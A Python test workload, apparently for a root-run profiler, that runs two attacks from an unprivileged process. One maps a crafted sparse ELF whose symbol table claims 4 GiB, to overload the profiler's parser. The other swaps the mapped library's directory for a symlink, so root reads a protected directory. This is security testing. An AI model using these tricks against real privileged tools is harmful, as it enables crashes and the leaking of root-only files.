#!/usr/bin/env python3
"""An unprivileged process whose mapped files are built to hurt a root profiler.

argv[1] is the attack, argv[2] a directory this user owns, argv[3] how many
seconds to live:

  sparse DIR      maps 12 KiB of DIR/libcoreclr.so, an ELF file whose
                  .dynsym claims 4 GiB, truncated to 1 TiB (nothing on disk);
  swap DIR SECRET maps DIR/real/libcoreclr.so (a copy the test put there),
                  then renames DIR/real away and makes DIR/real a symlink to
                  SECRET (a directory only root may read): a profiler that
                  opens the maps path as root reads SECRET's files.

It then spins on the CPU (so a whole-host profiler samples it), printing PID
and READY like the C# workloads.
"""

import mmap
import os
import struct
import sys
import time


def sparse(workdir):
    path = os.path.join(workdir, "libcoreclr.so")
    header = b"\x7fELF\x02\x01\x01" + bytes(9)
    # type, machine, version, entry, phoff, shoff, flags, ehsize,
    # phentsize, phnum, shentsize, shnum, shstrndx
    header += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, 64, 0, 64, 56, 0, 64, 3, 0)
    null = bytes(64)
    # name, type (SHT_DYNSYM), flags, addr, offset, size (4 GiB), link, info,
    # align, entsize
    dynsym = struct.pack("<IIQQQQIIQQ", 0, 11, 2, 0, 4096, 4 << 30, 2, 0, 8, 24)
    dynstr = struct.pack("<IIQQQQIIQQ", 0, 3, 2, 0, 8192, 64, 0, 0, 1, 0)
    with open(path, "wb") as f:
        f.write(header + null + dynsym + dynstr)
        f.truncate(1 << 40)
    fd = os.open(path, os.O_RDONLY)
    held = mmap.mmap(fd, 12288, prot=mmap.PROT_READ | mmap.PROT_EXEC)
    os.close(fd)
    return [held]


def swap(workdir, secret):
    real = os.path.join(workdir, "real")
    fd = os.open(os.path.join(real, "libcoreclr.so"), os.O_RDONLY)
    size = os.fstat(fd).st_size
    held = mmap.mmap(fd, size, prot=mmap.PROT_READ | mmap.PROT_EXEC)
    os.close(fd)
    os.rename(real, os.path.join(workdir, "old"))
    os.symlink(secret, real)
    return [held]


def main():
    attack, workdir = sys.argv[1], sys.argv[2]
    if attack == "sparse":
        held = sparse(workdir)
        seconds = float(sys.argv[3])
    elif attack == "swap":
        held = swap(workdir, sys.argv[3])
        seconds = float(sys.argv[4])
    else:
        sys.exit(f"unknown attack {attack}")
    print(f"PID {os.getpid()}", flush=True)
    print(f"MAPPINGS {len(held)}", flush=True)
    print("READY", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass


if __name__ == "__main__":
    main()
